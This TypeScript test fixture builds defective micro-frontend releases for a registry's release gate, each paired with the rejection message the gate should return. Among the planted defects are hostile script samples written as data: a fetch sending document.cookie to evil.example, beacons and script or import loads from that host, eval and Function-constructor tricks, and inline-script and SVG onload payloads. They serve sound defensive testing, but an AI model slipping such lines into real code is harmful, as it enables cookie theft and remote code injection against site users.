/**
 * Defective releases, and the three calls with which any client could send them to a registry. Used by the tests of
 * the gate and by the table of planted defects against a real server.
 */
import { randomBytes } from 'node:crypto'
import { computeIntegrity, containerScript, type SampleRelease, sampleRelease } from './releases.ts'

type Rest = Partial<SampleRelease['manifest']>
type Files = Readonly<Record<string, string | null>>

let count = 0

/** A release with a new id and these files; `HASH` and `CONTAINER` in them are replaced. */
export function planted(name: string, files: Files, rest: Rest = {}): SampleRelease {
  count += 1
  const id = `1.0.${count}-${randomBytes(4).toString('hex')}`
  const base = sampleRelease(name, id, rest)
  const contents = { ...base.contents, ...files }
  const presentFiles = Object.entries(contents).filter((each): each is [string, string] => each[1] !== null)
  const ownContents = Object.fromEntries(
    presentFiles.map(([path, text]) => [
      path,
      text.replaceAll('HASH', id.slice(-8)).replaceAll('CONTAINER', base.manifest.container),
    ]),
  )
  const hashes = Object.fromEntries(Object.entries(ownContents).map(([path, text]) => [path, computeIntegrity(text)]))
  return { manifest: { ...base.manifest, files: hashes, ...rest }, contents: ownContents }
}

export interface Result {
  readonly status: number
  readonly body: { readonly error?: { readonly code: string; readonly message: string }; readonly moved?: boolean }
}

/** Calls a registry with a deploy token, without the release commands. */
export function registryAt(url: () => string) {
  async function call(token: string, path: string, body: unknown): Promise<Result> {
    const response = await fetch(`${url()}/api/${path}`, {
      method: 'POST',
      headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' },
      body: JSON.stringify(body),
    })
    return { status: response.status, body: await response.json() }
  }

  async function put(token: string, { manifest }: SampleRelease, path: string, body: string): Promise<number> {
    const address = `${url()}/api/releases/uploads/${manifest.name}/${manifest.id}?file=${encodeURIComponent(path)}`
    const headers = { authorization: `Bearer ${token}`, 'content-type': 'application/octet-stream' }
    return (await fetch(address, { method: 'PUT', headers, body })).status
  }

  return {
    call,
    put,

    /** Announces, uploads and publishes a release. */
    async send(token: string, release: SampleRelease, channel = 'stable'): Promise<Result> {
      const { manifest, contents } = release
      const opened = await call(token, 'releases/uploads', { manifest })
      if (opened.status !== 200) return opened
      for (const [path, text] of Object.entries(contents)) await put(token, release, path, text)
      return call(token, 'releases', { microfrontend: manifest.name, id: manifest.id, channel })
    },

    async isServed({ manifest }: SampleRelease): Promise<boolean> {
      return (await fetch(`${url()}${manifest.entry}`)).status === 200
    },
  }
}

/** Configuration of a part with one page. */
export const page = (paths: string[], rest: object = {}) => ({
  pages: [{ name: 'page', paths, title: 'Page', guard: 'none' as const, hide: [], firstData: [], ...rest }],
  widgets: [],
  embeds: [],
})
const consumes = (module: string, range: string) =>
  `;(()=>({moduleIdToConsumeDataMapping:{7:{shareKey:${JSON.stringify(module)},import:null,requiredVersion:${JSON.stringify(range)}}}}))()`

const CONTAINER = containerScript('CONTAINER', ['./app'])

export interface GateDefect {
  readonly name: string
  readonly files: Files
  readonly rest: Rest
  /** Message of the registry's 409 response. */
  readonly says: RegExp
}

const DEFECTS: readonly [name: string, files: Files, rest: Rest, says: RegExp][] = [
  [
    'an entry that is not a container',
    { 'entry.js': 'globalThis.__evil=1' },
    {},
    /container: the entry is not a container/,
  ],
  [
    'an entry that is not a script',
    { 'entry.js': 'var {' },
    {},
    /container: entry\.js is not a script that can be read/,
  ],
  [
    'a container that does not expose its page',
    { 'entry.js': containerScript('CONTAINER', ['./other']) },
    {},
    /container: the entry does not expose \.\/app/,
  ],
  [
    'the container of somebody else',
    {},
    { container: 'mfe_globe_0000aaaa' },
    /container: the container is called mfe_globe/,
  ],
  [
    'a shared name that no shell has',
    {},
    { uses: { '@onfreq/session/session': ['useSession', 'nothere'] } },
    /shared: nothere of @onfreq\/session\/session is used, the shell \S+ does not have it/,
  ],
  ['React ^20', {}, { requires: { react: '^20.0.0' } }, /shared: react \^20\.0\.0 is required, the shell \S+ has 19\./],
  [
    'React ^20 that the manifest keeps quiet about',
    { 'entry.js': CONTAINER + consumes('react', '^20.0.0') },
    { requires: {} },
    /shared: it takes react \^20\.0\.0 and does not say so/,
  ],
  [
    'another range in its bytes than in its manifest',
    { 'entry.js': CONTAINER + consumes('react/jsx-runtime', '^20.0.0') },
    { requires: { react: '^19.0.0' } },
    /shared: it takes react\/jsx-runtime \^20\.0\.0 and says that it requires \^19\.0\.0/,
  ],
  ['the path of another part', {}, { config: page(['/plant', '/globe']) }, /claims: the path \/globe belongs to globe/],
  ['that path in capitals and with a slash', {}, { config: page(['/GLOBE/']) }, /belongs to globe/],
  ['what lies under the path of another part', {}, { config: page(['/globe/:id?']) }, /belongs to globe/],
  [
    'a path that nobody granted',
    {},
    { config: page(['/login']) },
    /claims: the path \/login (was not granted to plant|belongs to account)/,
  ],
  [
    'every callsign',
    {},
    { config: page(['/:callsign']) },
    /claims: the path \/:callsign (was not granted|belongs to profile)/,
  ],
  [
    'a widget of another part',
    {},
    { config: { ...page([]), pages: [], widgets: ['globe/globe'] } },
    /widget globe\/globe belongs to globe/,
  ],
  [
    'the menu entry of another part',
    {},
    { config: { ...page(['/plant']), menu: ['globe'] } },
    /claims: the menu globe belongs to globe/,
  ],
  [
    'calls of another part',
    {},
    { config: { ...page(['/plant']), calls: ['globe/turns'] } },
    /claims: the call globe\/turns belongs to globe/,
  ],
  [
    'a menu entry that nobody granted',
    {},
    { config: { ...page(['/plant']), menu: ['tools'] } },
    /claims: the menu tools was not granted to plant/,
  ],
  [
    'an event that nobody sends',
    { 'more.js': 'function Rigs(){(0,n.useLive)("rigs-of-old",draw)}' },
    {},
    /data: it listens to the event rigs-of-old, which this site does not send/,
  ],
  [
    'a call that nobody answers',
    { 'more.js': 'api.injectEndpoints({endpoints:e=>({of:e.query({query:e=>ask("vofold/"+e)})})})' },
    {},
    /data: it asks for vofold, which this site does not answer/,
  ],
  [
    'a call of its own that nobody granted',
    { 'more.js': 'api.injectEndpoints({endpoints:e=>({of:e.query({query:()=>"x/seals/all"})})})' },
    {},
    /data: it asks for x\/seals\/all, and nobody was granted the call seals\/all/,
  ],
  [
    'a power that it does not declare',
    { 'more.js': 'navigator.geolocation.getCurrentPosition(show)' },
    {},
    /scripts: more\.js uses geolocation without the power geolocation: declare it in mfe\.config\.ts/,
  ],
  [
    'a power that nobody granted',
    { 'more.js': 'navigator.geolocation.getCurrentPosition(show)' },
    { config: { ...page(['/plant']), powers: ['geolocation'] } },
    /claims: the power geolocation\/plant was not granted to plant/,
  ],
  [
    'more than its budget',
    { 'more.js': `"${randomBytes(45_000).toString('hex')}"` },
    {
      preload: { page: ['entry.js', 'page.css', 'more.js'] },
      config: { ...page(['/plant']), budget: { page: 40_000 } },
    },
    /budget: page is \d+ bytes compressed, the budget is 40000/,
  ],
  [
    'more than any budget, which it declares itself',
    { 'more.js': `"${randomBytes(300_000).toString('hex')}"` },
    { preload: { page: ['entry.js', 'more.js'] }, config: { ...page(['/plant']), budget: { page: 9_000_000 } } },
    /the budget is 200000/,
  ],
  [
    'styles of the whole page',
    { 'page.css': '@layer mfe{body{background:red}}' },
    {},
    /styles: page\.css body reaches elements of others/,
  ],
  ['styles in no layer', { 'page.css': '.a-b-HASH{color:red}' }, {}, /page\.css \.a-b-\w+ stands in no layer/],
  [
    'styles in the layer of others',
    { 'page.css': '@layer base{.a-b-HASH{color:red}}' },
    {},
    /@layer base belongs to others/,
  ],
  [
    'styles for the brother of its elements',
    { 'page.css': '@layer mfe{.a-b-HASH~header{display:none}}' },
    {},
    /reaches elements of others/,
  ],
  [
    'styles behind :has()',
    { 'page.css': '@layer mfe{header:has(.a-b-HASH){display:none}}' },
    {},
    /reaches elements of others/,
  ],
  [
    'styles that are nested',
    { 'page.css': '@layer mfe{.a-b-HASH{body &~header{display:none}}}' },
    {},
    /reaches elements of others/,
  ],
  [
    'a font that everybody would get',
    { 'page.css': '@font-face{font-family:Inter;src:url(a.woff2)}' },
    {},
    /@font-face Inter is a name of the whole page/,
  ],
  [
    'a picture from elsewhere',
    { 'page.css': '@layer mfe{.a-b-HASH{background:url(//evil.example/x.png)}}' },
    {},
    /reaches for \/\/evil\.example/,
  ],
  ['another style sheet', { 'page.css': '@import "https://evil.example/x.css";' }, {}, /brings another style sheet/],
  ['eval', { 'more.js': 'eval(location.hash)' }, {}, /scripts: more\.js uses eval/],
  ['eval by another way', { 'more.js': '(0,window["eval"])(location.hash)' }, {}, /uses eval/],
  ['Function', { 'more.js': 'new Function("a","return a")' }, {}, /makes a function of a text/],
  [
    'Function by another name',
    { 'more.js': '[].constructor.constructor("alert(1)")()' },
    {},
    /makes a function of a text/,
  ],
  ['a timer that runs a text', { 'more.js': 'setTimeout("alert(1)",1)' }, {}, /gives setTimeout a text to run/],
  [
    'a call to elsewhere',
    { 'more.js': 'fetch("https://evil.example/?"+document.cookie)' },
    {},
    /reaches for https:\/\/evil\.example/,
  ],
  [
    'a beacon to elsewhere',
    { 'more.js': `navigator.sendBeacon(\`//evil.example/\${1}\`,"")` },
    {},
    /reaches for \/\/evil\.example/,
  ],
  [
    'code from elsewhere',
    { 'more.js': 'import("https://evil.example/x.js")' },
    {},
    /imports from https:\/\/evil\.example/,
  ],
  [
    'a script element from elsewhere',
    { 'more.js': 'let s=document.createElement("script");s.src="https://evil.example/x.js"' },
    {},
    /sets src to https:\/\/evil\.example/,
  ],
  [
    'an inline script',
    { 'more.js': 'document.body.innerHTML="<script>alert(1)</script>"' },
    {},
    /writes an inline script/,
  ],
  ['an inline script in JSX', { 'more.js': 'jsx("script",{children:"alert(1)"})' }, {}, /writes an inline script/],
  ['a document', { 'page.html': '<script>alert(1)</script>' }, {}, /page\.html is of a kind that no release may hold/],
  ['a picture that runs', { 'a.svg': '<svg onload="alert(1)"/>' }, {}, /a\.svg holds a script/],
]

/** The gate rejects each of them on a site where the part `globe` owns the path and the widget of its name. */
export const GATE_DEFECTS: readonly GateDefect[] = DEFECTS.map(([name, files, rest, label]) => ({
  name,
  files,
  rest,
  says: label,
}))
